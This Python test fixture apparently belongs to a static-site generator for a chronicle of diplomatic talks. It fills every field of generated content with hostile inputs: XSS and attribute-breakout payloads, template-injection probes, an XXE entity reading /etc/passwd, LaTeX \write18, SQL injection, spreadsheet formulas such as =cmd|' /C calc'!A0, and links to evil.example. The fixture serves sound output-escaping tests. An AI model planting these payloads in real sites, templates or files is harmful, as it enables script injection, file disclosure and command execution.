"""Words that would act if anything took them for more than words, and a chronicle that has them in every field."""

from __future__ import annotations

import re
from collections.abc import Iterator

from tests.hostile.cases import quoted
from tests.site import BASE

TRICKS: dict[int, tuple[str, ...]] = {  # by the number of the threat
    1: (
        "<script>canary()</script>", "<img src=x onerror=canary()>", "<svg onload=canary()>", "<svg/onload=canary()>",
        "<svg><animate onbegin=canary() attributeName=x dur=1s>", "<svg><script>canary()</script></svg>",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
        '<noscript><p title="</noscript><img src=x onerror=canary()>">', "<!--><img src=x onerror=canary()>-->",
        "<!--<script>", "--!><script>canary()</script>", "</title><script>canary()</script>",
        "</script><script>canary()//",
        "</textarea><script>canary()</script>", "<![CDATA[<script>canary()</script>]]>", "<plaintext>", "<xmp><p>",
        "<script",
        '<iframe srcdoc="<script>parent.canary()</script>">', '<object data="javascript:canary()">', "<embed src=x>",
        "<details open ontoggle=canary()>", "<video><source onerror=canary()>", "<template><script>canary()</script>",
        "<x onclick=canary() tabindex=1 id=x autofocus>", "<", "</", "<%= 7919*7907 %>", "<?php echo 7919*7907 ?>",
        "<a href=javascript:canary()>a</a>", "<body onload=canary()>", "<marquee onstart=canary()>", "<isindex>",
    ),
    3: (
        '" onmouseover="canary()', "' onfocus='canary()' autofocus='", "` onerror=canary() `", "x onerror=canary()",
        '"><img src=x onerror=canary()>', "'><img src=x onerror=canary()>", 'x" style="position:fixed" class="h-entry',
        '{.x #main onclick="canary()"}', "{: onclick=canary() }", "x/onerror=canary()", '\\" onclick=\\"canary()',
    ),
    4: (
        "&lt;script&gt;canary()&lt;/script&gt;", "&amp;lt; &quot; &#39;", "&#60;img src=x onerror=canary()&#62;",
        '","@type":"Person","x":"', "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", '\\"}];canary();//',
        "'-canary()-'",
        "\\", "x\\", '"}</script><script>canary()</script>', "<!--<script>canary()", "*/canary()/*", "`${canary()}`",
    ),
    5: (
        "{{ 7919*7907 }}", "{% raw %}{{ 7919*7907 }}{% endraw %}", "{# gone #}", "{{ self.__init__.__globals__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7919*7907}", "#{7919*7907}", "{%- include 'base.html' -%}",
        "{{ config }}", "{{ href('x') }}", "%(x)s {0} {x!r} %s %n", "{{", "{%", "}} %} #}", "{{ '</title>' | safe }}",
    ),
    19: (
        "]]>", "]]><script>canary()</script>", "]]></description></item><item><title>more</title></item>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e; &xxe; &lol9; &nbsp;", "</title></entry><entry>",
        '<?xml-stylesheet href="https://evil.example/x.xsl"?>', "<?php ?>", "<![CDATA[", "</channel></rss>",
    ),
    20: (
        "x\nBEGIN:VEVENT\nSUMMARY:evil\nEND:VEVENT", 'x;ALTREP="https://evil.example":y',
        "x\\nATTENDEE:mailto:a@b.example",
        "x\nER  - \nTY  - JOUR", "x}}, url = {https://evil.example}, note = {{", "\\input{/etc/passwd} \\write18{id}",
        "x\nEND:VCALENDAR", "x,y;z:\"q\"", "x\t=1+1", "x;=1+1", "x\n=1+1", "x'); DROP TABLE events; --",
        "x\u0020\u00a0=1",
    ),
    22: ("${HOME} $(id) `id` %PATH% $PATH", "http://169.254.169.254/latest/meta-data/", "//evil.example/x.js",
    "file:///etc"),
    29: (
        "<style>*{display:none}</style>", "<form action=https://evil.example/><input name=password></form>",
        "<a id=location name=location>x</a><img name=body>", '<base href="https://evil.example/">', "<input autofocus>",
        '<meta http-equiv=refresh content="0;url=https://evil.example/">',
        "<link rel=stylesheet href=//evil.example/x.css>",
        '<div style="position:fixed;inset:0">x</div>', "<button formaction=javascript:canary()>x</button>",
    ),
}  # fmt: skip
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠x", '=HYPERLINK("x")')

WORDS = [(f"{threat:02}{number:02}", trick) for threat, tricks in TRICKS.items() for number, trick in enumerate(tricks)]


def _groups() -> Iterator[list[str]]:
    """Yield the numbers of as many texts as one name may hold."""
    group: list[str] = []
    room = 280
    for name, text in WORDS:
        room -= len(text) + 6
        if room < 0:
            yield group
            group, room = [], 280 - len(text) - 6
        group.append(name)
    yield group


GROUPS = list(_groups())


def harmless(text: str) -> str:
    """Return a text of the same length and the same lines that means nothing to anybody."""
    return re.sub(r"\S", "w", text)


def site_of(words: list[tuple[str, str]], formulas: tuple[str, ...]) -> dict[str, str]:
    """Return a chronicle that has each of the texts in an entry of its own, and all of them in everything else."""
    texts, groups = dict(words), ([name for name in names if name in dict(words)] for names in GROUPS)
    piles = [f"Pile {n}: " + " ".join(f"{name} {texts[name]}" for name in names) for n, names in enumerate(groups)]
    files = {**BASE, "content/site.yaml": _settings(" ".join(text for _, text in words[:8]))}
    for name, text in words:
        person = next(f"p{number}" for number, names in enumerate(GROUPS) if name in names)
        files[f"content/events/n{name}.md"] = _entry(name, f"N{name} {text}", person)
    for number, pile in enumerate(piles):
        value = quoted(pile)
        made = {
            "regions": f"name: {value}\nkind: city\ncoordinates: [1, 1]\ncoordinates_note: {value}\n",
            "topics": f"name: {value}\nsummary: {value}\n",
            "parties": f"name: {quoted('Party ' + pile)}\nkind: group\n",
            "documents": f"name: {value}\nkind: plan\nsummary: {value}\ncalled: [{{by: Russia, name: {value}}}]\n"
            f"status: [{{status: {value}, note: {value}, source: gazette}}]\nsource: gazette\n",
            "sources": f"publisher: {value}\ntitle: {value}\nvia: {value}\norigin: {value}\nnote: {value}\n"
            f"url: https://example.org/{number}\naccessed: 2026-01-31\n",
            "pages": f"title: {value}\nsummary: {value}\n",
        }
        files[f"content/people/p{number}.md"] = (
            f"---\nname: {quoted('Who ' + pile)}\naliases: [{quoted('Alias ' + pile)}]\nparty: Russia\n"
            f"roles: [{{role: {value}, source: gazette}}]\n---\nWords.\n"
        )
        files |= {f"content/{folder}/q{number}.md": f"---\n{text}---\nWords.\n" for folder, text in made.items()}
        files[f"content/events/q{number}.md"] = (
            f"---\ntitle: {value}\ndate: 2026-01-20\nlocation: q{number}\n"
            f"participants: [{{person: p{number}, role: {value}}}, Vladimir Putin]\n"
            f"source: q{number}\ntopics: [q{number}]\ndocuments: [q{number}]\n---\nWords.\n"
        )
    for number, text in enumerate(formulas):
        files[f"content/events/f{number}.md"] = (
            f"---\ntitle: {quoted(text)}\ndate: 2026-01-19\nlocation: {quoted(text + ', Abu Dhabi')}\n"
            f"participants: [{{person: Vladimir Putin, role: {quoted(text)}}}]\nsource: {{publisher: {quoted(text)}, "
            f"url: https://example.org/f{number}, accessed: 2026-01-31}}\nsummary: {quoted(text)}\n---\nWords.\n"
        )
    return files


def _settings(text: str) -> str:
    value = quoted(text[:290])
    return (
        f"id: test-chronicle\ntitle: {value}\ndescription: {value}\nbase_url: https://chronicle.example/talks/\n"
        f"covered_until: 2026-01-31\nlicence: {value}\nlicence_url: https://example.org/licence\neditors: [{value}]\n"
        f"repository: https://github.com/a/talks\nleaders: [Vladimir Putin, Steve Witkoff]\n"
        f"series: {{envoy-visits: {{name: {value}}}}}\n"
    )


def _entry(name: str, text: str, person: str) -> str:
    value = quoted(text)
    own = quoted(text.replace('"', "").replace("'", ""))  # the record's own words have no quotation marks
    return f"""\
---
title: {value}
date: 2026-01-22
time: {value}
location: {quoted(text + ", Abu Dhabi")}
participants: [{{person: {person}, role: {value}}}, {{person: Vladimir Putin, role: {value}, attended: false}}]
summary: {value}
basis: {quoted("deduced: " + text.replace(chr(10), " "))}
series: envoy-visits
source:
  - {{title: {value}, publisher: {value}, via: {value}, origin: {value}, note: {value}, at: {value},
     supports: [{value}], url: "https://example.org/{name}?a=1&b=2#c", published: 2026-01-23}}
status_history: [{{status: {value}, date: 2026-01-20, by: {person}, note: {own}, source: gazette}}]
statements:
  - {{by: {person}, mode: quote, text: {value}, context: {own}, channel: {value}, to: {value}, translator: {value},
     source: gazette, at: {value}, language: uk}}
  - {{by: {person}, text: {own}, source: gazette}}
differences:
  - {{on: {value}, accounts: [{{text: {own}, by: {value}, source: gazette}}, {{text: b, source: gazette}}]}}
corrections: [{{date: 2026-01-25, kind: material, text: {value}}}]
---
Words.
"""


HOSTILE_SITE = site_of(WORDS, FORMULAS)
HARMLESS_SITE = site_of([(name, harmless(text)) for name, text in WORDS], tuple(map(harmless, FORMULAS)))
